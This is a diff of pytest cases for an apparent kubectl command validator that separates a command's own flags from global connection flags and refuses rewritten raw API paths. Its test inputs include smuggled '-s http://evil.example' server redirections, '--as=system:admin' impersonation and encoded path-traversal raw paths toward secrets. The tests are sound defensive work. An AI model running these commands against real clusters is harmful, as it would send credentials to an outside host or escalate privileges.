@@ -830,6 +830,118 @@ def test_an_end_of_flags_before_the_verb_is_refused(command: str) -> None:
 
 
 @pytest.mark.parametrize("command", [
+    # a -- right after a flag that takes no value (or has its value in the word) ends
+    # kubectl's flags: what follows is the container's argv, where -s is ls's own flag
+    "kubectl exec web -it -- ls -s",
+    "kubectl exec web -i -t -- ls -s",
+    "kubectl exec web --stdin --tty -- ls -s",
+    "kubectl exec web --stdin=true -- ls -s",
+    "kubectl exec web -it=true -- ls -s",
+    "kubectl exec web -q -- ls -s /",
+    "kubectl exec web -capp -- ls -s",
+    "kubectl exec web -c=app -- ls -s",
+    "kubectl exec web --container=app -- ls -s",
+    "kubectl attach web -it -- -s",
+    "kubectl run tmp --image=busybox --rm -it --restart=Never -- ls -s",
+    "kubectl debug -it web --image=busybox --target=app -- ls -s",
+    "kubectl create deployment web --image=busybox -r3 -- ls -s",
+    "kubectl create job once --image=busybox --dry-run=client -- ls -s",
+    "kubectl logs web -p -- -s",  # -p is --previous in logs: the -- ends the flags
+    # -p is --patch in kubectl patch: the rest of the word is the patch, no -s in it
+    "kubectl patch deployment web -p'{\"spec\":{\"replicas\":2}}'",
+])
+def test_a_double_dash_after_a_flag_that_takes_no_value_ends_the_flags(command: str) -> None:
+    assert parse(command) == shlex.split(command)
+
+
+@pytest.mark.parametrize("command", [
+    # the flag before the -- takes it as its value (kubectl 1.34 reads the -s after it as
+    # --server): the flags go on
+    "kubectl exec web -c -- -s http://evil.example",
+    "kubectl exec web -ic -- -s http://evil.example",
+    "kubectl exec web --container -- -s http://evil.example",
+    "kubectl exec web --field-manager -- -s http://evil.example",
+    "kubectl patch deployment web -p -- -s http://evil.example",  # -p is --patch here
+    "kubectl patch deployment web --type merge -ip -- -s http://evil.example",
+    "kubectl create deployment web --image=busybox -r -- -s http://evil.example",
+    "kubectl exec web -x -- -s http://evil.example",  # a letter it does not know: fail closed
+    "kubectl exec web --unknown -- -s http://evil.example",
+    "kubectl exec web --dry-run -- -s http://evil.example",
+    "kubectl get pods -l -- --as=system:admin",
+    "kubectl -s http://evil.example get pods",
+    "kubectl get pods -ps http://evil.example",  # get has no -p: the letters go on
+    "kubectl logs web -ps http://evil.example",  # -p is --previous in logs
+])
+def test_a_double_dash_a_flag_may_take_as_its_value_does_not_end_the_flags(
+        command: str) -> None:
+    exc = violation(command, "ConnectionFlag")
+    assert "evil" not in exc.message
+
+
+def test_after_the_end_of_the_flags_the_words_are_the_programs_own() -> None:
+    assert parse("kubectl exec web -- -s") == ["kubectl", "exec", "web", "--", "-s"]
+    assert parse("kubectl exec web -c app -- kubectl --server=x") == [
+        "kubectl", "exec", "web", "-c", "app", "--", "kubectl", "--server=x"]
+    pattern = "kubectl exec {name} -it -- ls -s"  # a pattern reads its -- the same way
+    allowlist = Allowlist.from_patterns([pattern])
+    assert check("kubectl exec web -it -- ls -s", approved=["kubectl exec web -it -- ls -s"],
+                 allowlist=allowlist)
+
+
+@pytest.mark.parametrize("command", [
+    # --user is the binding's subject there (kubectl 1.34: create rolebinding x
+    # --clusterrole=view --user=alice --dry-run=client -o yaml binds User alice, and kubectl
+    # still connects as its own user), --group and --serviceaccount too
+    "kubectl create rolebinding ops --clusterrole=view --user=alice",
+    "kubectl create rolebinding ops --clusterrole=view --user=alice --user=bob -n apps",
+    "kubectl -n apps create rolebinding ops --role=reader --user alice",
+    "kubectl create clusterrolebinding ops --clusterrole=view --user=alice --group=devs",
+    "kubectl create rolebinding ops --clusterrole=view --serviceaccount=apps:web",
+    "kubectl set subject rolebinding ops --user=alice",
+    "kubectl set subject clusterrolebinding ops --user=alice --group=devs",
+    # --profile is debug's own (a security profile), one of the values kubectl accepts
+    "kubectl debug node/worker --profile=general --image=busybox",
+    "kubectl debug -it web --image=busybox --profile netadmin",
+    "kubectl debug web --copy-to=web-debug --profile=restricted --image=busybox",
+])
+def test_a_commands_own_flag_named_like_a_global_one_is_allowed(command: str) -> None:
+    assert parse(command) == shlex.split(command)
+
+
+@pytest.mark.parametrize(("command", "flag"), [
+    ("kubectl --user=x get pods", "--user"),
+    ("kubectl get pods --user=x", "--user"),
+    ("kubectl --user=alice create rolebinding ops --clusterrole=view", "--user"),
+    # cobra finds the subcommand past a flag and the word after it: only right after the verb
+    ("kubectl create --user=alice rolebinding ops --clusterrole=view", "--user"),
+    ("kubectl create -n apps rolebinding ops --user=alice", "--user"),
+    ("kubectl create deployment web --image=nginx --user=alice", "--user"),
+    ("kubectl set image deployment/web web=nginx --user=alice", "--user"),
+    ("kubectl create rolebinding ops --user=alice --kubeconfig=/etc/x", "--kubeconfig"),
+    ("kubectl create rolebinding ops --clusterrole=view --as=alice", "--as"),
+    ("kubectl get pods --profile=cpu", "--profile"),  # the global one writes profile.pprof
+    ("kubectl debug node/worker --profile=cpu --image=busybox", "--profile"),
+    ("kubectl debug node/worker --profile=General --image=busybox", "--profile"),
+    ("kubectl debug node/worker --profile", "--profile"),
+    ("kubectl --profile=general debug node/worker", "--profile"),
+    ("kubectl debug node/worker --profile=general --profile-output=x", "--profile-output"),
+])
+def test_a_global_flag_a_command_does_not_shadow_is_still_refused(command: str,
+                                                                  flag: str) -> None:
+    assert flag in violation(command, "ConnectionFlag").message
+
+
+def test_a_pattern_may_set_a_commands_own_user_but_not_the_global_one() -> None:
+    allowlist = Allowlist.from_patterns(
+        ["kubectl create rolebinding {name} --clusterrole=view --user=*"])
+    command = "kubectl create rolebinding ops --clusterrole=view --user=alice"
+    assert check(command, approved=[command], allowlist=allowlist)
+    for pattern in ("kubectl get pods --user=*", "kubectl create * ops --user=*"):
+        with pytest.raises(ConfigError, match="ConnectionFlag"):
+            AllowlistPattern.parse(pattern)
+
+
+@pytest.mark.parametrize("command", [
     "kubectl logs web -f",  # -f is --follow in logs
     "kubectl logs -f web -n apps",
     "kubectl logs web -pf",
@@ -1017,6 +1129,7 @@ def test_every_flag_that_names_a_file_of_the_pinned_kubectl_is_refused() -> None
     "kubectl get --raw api/v1/namespaces/apps/pods",
     "kubectl delete --raw /api/v1/namespaces/apps/pods/..%2Fsecrets%2Fdb",
     "kubectl -n apps get --raw=/api/v1/namespaces/apps/pods --raw /api/v1/%2E%2E",  # last wins
+    "kubectl get --raw= pods",  # kubectl reads an empty --raw as none: a plain get pods
 ])
 def test_a_raw_path_kubectl_would_rewrite_never_runs(command: str) -> None:
     exc = violation(command, "RawPath")
